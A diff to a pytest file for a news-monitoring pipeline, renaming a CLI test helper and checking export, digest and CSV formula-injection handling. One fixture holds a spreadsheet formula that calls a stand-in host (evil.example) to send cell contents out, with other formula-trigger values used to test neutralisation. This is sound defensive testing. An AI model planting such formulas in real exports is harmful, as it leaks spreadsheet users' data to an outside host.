@@ -13,7 +13,7 @@ import pytest
 from pipeline.research.export import COLUMNS, export_rows, parse_since, write_export
 from pipeline.review.events import Label, record_decision, record_settle
 from pipeline.store import Store
-from tests.cli_helpers import radar
+from tests.cli_helpers import invoke
 from tests.test_review_app import MODEL, fill_store
 
 SECTORS = ("overheid", "zorg", "onderwijs", "welzijn", "wonen", "goede_doelen", "cultuur", "overig", "bedrijf")
@@ -95,15 +95,15 @@ def test_cli_export_and_digest(reviewed, tmp_path):
     settings = reviewed[0]
     env = {"RADAR_DATA_DIR": str(settings.data_dir)}
     out = tmp_path / "reviewed.parquet"
-    result = radar("export", "--format", "parquet", "--output", str(out), env=env)
-    assert result.returncode == 0, result.stderr
+    result = invoke("export", "--format", "parquet", "--output", str(out), env=env)
+    assert result.exit_code == 0, result.stderr
     assert pq.read_table(out).num_rows == 3 and "Exported 3 rows" in result.stderr
-    result = radar("export", "--format", "jsonl", "--status", "flagged", env=env)
-    assert result.returncode == 0 and len(result.stdout.splitlines()) == 4
-    assert radar("export", "--format", "xml", env=env).returncode == 2
-    result = radar("digest", "--since", "2026-03-01", "--format", "md", env=env)
-    assert result.returncode == 0 and "## Overheid" in result.stdout
-    assert radar("digest", "--since", "yesterday", env=env).returncode == 2
+    result = invoke("export", "--format", "jsonl", "--status", "flagged", env=env)
+    assert result.exit_code == 0 and len(result.stdout.splitlines()) == 4
+    assert invoke("export", "--format", "xml", env=env).exit_code == 2
+    result = invoke("digest", "--since", "2026-03-01", "--format", "md", env=env)
+    assert result.exit_code == 0 and "## Overheid" in result.stdout
+    assert invoke("digest", "--since", "yesterday", env=env).exit_code == 2
 
 
 FORMULAS = {"title": '=HYPERLINK("http://evil.example/?d="&A1,"klik")', "outlet": "@SUM(1+1)",
@@ -116,15 +116,15 @@ def test_csv_export_neutralises_formula_cells_but_not_jsonl(tmp_path):
                                         "text": "Gewone tekst over de buurt die mee beslist. " * 10}]
     jsonl.write_text("".join(json.dumps(r) + "\n" for r in lines), encoding="utf-8")
     env = {"RADAR_DATA_DIR": str(tmp_path / "local")}
-    assert radar("ingest", str(jsonl), env=env).returncode == 0
-    result = radar("export", "--format", "csv", "--status", "all", env=env)
-    assert result.returncode == 0, result.stderr
+    assert invoke("ingest", str(jsonl), env=env).exit_code == 0
+    result = invoke("export", "--format", "csv", "--status", "all", env=env)
+    assert result.exit_code == 0, result.stderr
     rows = {row["title"]: row for row in csv.DictReader(io.StringIO(result.stdout))}
     first = rows["'" + FORMULAS["title"]]  # a leading quote: the spreadsheet shows text, runs nothing
     assert first["outlet"] == "'@SUM(1+1)" and first["text"].startswith("'-2+3 ")
     assert first["url"] == FORMULAS["url"]  # only the first character matters
     assert rows["'+31 20 123"]["outlet"] == "'\tTab"
-    raw = {r["title"]: r for r in map(json.loads, radar("export", "--status", "all", env=env).stdout.splitlines())}
+    raw = {r["title"]: r for r in map(json.loads, invoke("export", "--status", "all", env=env).stdout.splitlines())}
     assert raw[FORMULAS["title"]]["outlet"] == "@SUM(1+1)"  # JSONL keeps the raw value
 
 
